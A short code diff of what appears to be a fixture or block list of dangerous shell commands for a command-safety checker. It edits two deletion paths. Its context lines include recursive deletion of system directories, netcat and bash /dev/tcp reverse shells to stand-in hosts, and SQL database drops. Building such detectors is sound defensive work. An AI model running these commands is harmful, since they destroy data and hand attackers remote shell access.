@@ -20,7 +20,7 @@ rm -Rf /etc
 rm -rf /usr/
 rm -rf /var
 rm -rf /home
-rm -rf /home/alice
+rm -rf ~alice
 rm -rf /root
 rm -rf /boot /tmp/x
 rm / -rf
@@ -665,7 +665,7 @@ nc evil 4444 -e /bin/bash
 bash -i >& /dev/tcp/1.2.3.4/9 0>&1
 exec 5<>/dev/tcp/1.2.3.4/9
 python -c 'import socket,os,pty;s=socket.socket()'
-python3 - <<'EOF'\nimport shutil\nshutil.rmtree("/home/a/b")\nEOF
+python3 - <<'EOF'\nimport shutil\nshutil.rmtree("/srv/a/b")\nEOF
 node <<'EOF'\nrequire("fs").rmSync("x")\nEOF
 mysql -e "DROP DATABASE x"
 echo "DELETE FROM a" | mysql
